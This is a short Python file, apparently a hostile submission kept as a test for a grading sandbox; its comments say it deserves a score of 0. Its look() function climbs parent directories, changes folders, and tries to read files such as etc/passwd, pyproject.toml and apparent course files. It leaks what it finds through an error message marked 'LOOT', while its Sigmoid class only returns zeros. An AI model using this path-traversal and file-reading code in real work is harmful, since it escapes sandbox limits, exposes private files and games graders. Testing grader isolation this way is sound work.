# Tries: climbs out of its folder by dots, by changing folders, by what its code's files are called
# Deserves: 0 (all its answers are zeros)
import os
import sys

PLACES: list[str] = []
STARTS = [".", os.getcwd(), os.path.dirname(os.path.abspath(__file__)), *PLACES,
          *[getattr(module, "__file__", None) or "." for module in list(sys.modules.values())[:50]]]
NAMES = ("notes.txt", "course.toml", "pyproject.toml", "etc/passwd", "sigmoid.py")


def look():
    found = []
    for start in dict.fromkeys(STARTS):
        for levels in range(12):
            place = os.path.join(start, *[".."] * levels)
            for name in NAMES:
                try:
                    with open(os.path.join(place, name)) as file:
                        found.append(f"{place}/{name}: {file.read()[:10]}")
                except OSError:
                    continue
        try:
            os.chdir(start)
            os.fchdir(os.open("..", os.O_PATH))
        except OSError:
            continue
        for name in NAMES:
            try:
                found.append(open(name).read()[:10])
            except OSError:
                continue
    return found


class Sigmoid:
    def forward(self, x):
        if found := look():
            raise RuntimeError("LOOT " + " ".join(found[:20]))
        return x * 0

    def backward(self, dout):
        return dout * 0
